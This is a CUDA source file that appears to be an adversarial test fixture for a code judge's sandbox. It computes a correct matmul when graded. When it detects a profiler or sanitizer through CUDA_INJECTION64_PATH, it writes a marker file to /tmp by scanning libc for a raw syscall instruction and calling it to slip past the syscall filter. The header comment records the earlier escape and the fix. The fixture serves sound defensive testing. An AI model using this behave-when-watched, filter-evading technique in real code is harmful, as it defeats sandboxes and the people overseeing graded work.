// Hostile, the profiler as a way out: behaves while graded, and only when it finds itself under a tool
// (Nsight Compute and compute-sanitizer inject their library through CUDA_INJECTION64_PATH) leaves a
// file in /tmp, made by a system call through libc's own `syscall` instruction (found from fwrite(),
// as run_time_error/fork_through_libc_instruction.cu finds it). Under `judge profile` and `--explain`
// the runner used to run outside the sandbox and without its filter: the file appeared in the host's
// /tmp.
//
// Verdict: accepted: graded, it is a plain correct matmul. Under the profiler or the sanitizer it runs
// in the runner's sandbox (judge/profile/ncu_profile.cpp, judge/run/runner_under_tool.cpp): the file lands
// in the sandbox's own /tmp, a tmpfs that ends with the run, and nothing of the host's changes.
#include <cuda_runtime.h>
#include <cstdint>
#include <cstdio>
#include <cstdlib>

#if !defined(__x86_64__)
#error "this fixture is written for x86-64"
#endif

__global__ void matmul_coalesced(const float* A, const float* B, float* C, int M, int N, int K) {
  const int col = blockIdx.x * blockDim.x + threadIdx.x;
  const int row = blockIdx.y * blockDim.y + threadIdx.y;
  if (row >= M || col >= K) return;
  float sum = 0.0f;
  for (int p = 0; p < N; ++p) sum += A[row * N + p] * B[p * K + col];
  C[row * K + col] = sum;
}

namespace {
/// The address of a `syscall` (0f 05) followed by `ret` (c3) or by a wrapper's error check
/// (`cmp rax, -4095`: 48 3d 01 f0 ff ff), within 256 KiB of libc code after `start`; nullptr if none.
const unsigned char* find_syscall_in_libc(const void* start) {
  const auto* p = static_cast<const unsigned char*>(start);
  for (int i = 0; i < (256 << 10); ++i, ++p) {
    if (p[0] != 0x0f || p[1] != 0x05) continue;
    if (p[2] == 0xc3) return p;
    if (p[2] == 0x48 && p[3] == 0x3d && p[4] == 0x01 && p[5] == 0xf0 && p[6] == 0xff && p[7] == 0xff) return p;
  }
  return nullptr;
}

/// Calls into libc's code at `at` with `number` in rax and four arguments, as a wrapper would. The red
/// zone below the stack pointer is stepped over, because `call` pushes the return address there.
long call_libc_syscall(const unsigned char* at, long number, long a, long b, long c, long d) {
  long result = number;
  register long fourth asm("r10") = d;
  asm volatile("sub $128, %%rsp\n\t"
               "call *%[at]\n\t"
               "add $128, %%rsp"
               : "+a"(result), "+D"(a), "+S"(b), "+d"(c), "+r"(fourth)
               : [at] "r"(at)
               : "rcx", "r8", "r9", "r11", "memory", "cc");
  return result;
}
constexpr long linux_openat = 257, linux_write = 1;
constexpr long at_fdcwd = -100, create_for_writing = 01 | 0100; // O_WRONLY | O_CREAT
} // namespace

extern "C" void solve(const float* A, const float* B, float* C, int M, int N, int K) {
  static const bool planted = [] {
    if (std::getenv("CUDA_INJECTION64_PATH") == nullptr) return false; // graded: behave
    const unsigned char* at = find_syscall_in_libc(reinterpret_cast<const void*>(&std::fwrite));
    if (at == nullptr) return false;
    static const char path[] = "/tmp/escaped-from-the-profiler";
    static const char text[] = "learner code ran here outside the sandbox\n";
    const long fd =
        call_libc_syscall(at, linux_openat, at_fdcwd, reinterpret_cast<long>(path), create_for_writing, 0644);
    if (fd >= 0) call_libc_syscall(at, linux_write, fd, reinterpret_cast<long>(text), sizeof text - 1, 0);
    return fd >= 0;
  }();
  (void)planted;
  const dim3 block(32, 8);
  const dim3 grid((K + block.x - 1) / block.x, (M + block.y - 1) / block.y);
  matmul_coalesced<<<grid, block>>>(A, B, C, M, N, K);
  cudaDeviceSynchronize();
}
